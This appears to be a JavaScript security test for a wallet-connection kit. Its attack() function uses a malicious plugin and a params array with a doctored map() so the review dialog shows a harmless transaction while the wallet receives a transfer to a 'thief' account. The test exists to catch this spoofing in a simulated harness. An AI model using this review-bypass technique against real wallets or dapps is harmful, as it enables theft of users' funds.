import { page, settled, spy, thief, until, visitor } from './world.mjs'

export const row = 'SEC-89'

const permissions = ['wallet:request']
const shown = [{ from: visitor, to: visitor, value: '0x0' }]

/** With the grant to ask a wallet: a list that is another one each time that it is copied. */
export async function attack() {
  let ctx
  const evil = spy({ permissions, methods: ['eth_sendTransaction'] }, (_, given) => {
    ctx = given
  })
  const { kit, wallet } = await page({ plugins: [evil], grants: { 'evil/plugin': permissions } })
  for (const ask of [
    (request) => ctx.rpc.request(request),
    (request) => kit.getProvider('eip155').request(request),
  ]) {
    let isFirst = true
    const shifting = () =>
      Object.assign([{ from: visitor, to: thief, value: '0xffff' }], {
        map() {
          if (!isFirst) return shown
          isFirst = false
          return shifting()
        },
      })
    let isDone = false
    ask({ method: 'eth_sendTransaction', params: shifting() })
      .catch(() => {})
      .finally(() => {
        isDone = true
      })
    const card = () =>
      document.querySelector('kit-modal')?.shadowRoot.querySelector('[role=dialog]')
    const goOn = () =>
      [...(card()?.querySelectorAll('button') ?? [])].find(({ textContent }) =>
        textContent.startsWith('Continue'),
      )
    await until(() => isDone || goOn(), 'the review')
    // The visitor agrees to what they read, and to nothing for the thief.
    await until(() => {
      if (card()?.textContent.includes(thief)) kit.close()
      else goOn()?.click()
      return isDone
    }, 'the answer')
    await settled()
  }
  const sent = JSON.stringify(wallet.requests)
  await kit.dispose()
  return sent.includes(thief) ? sent : undefined
}
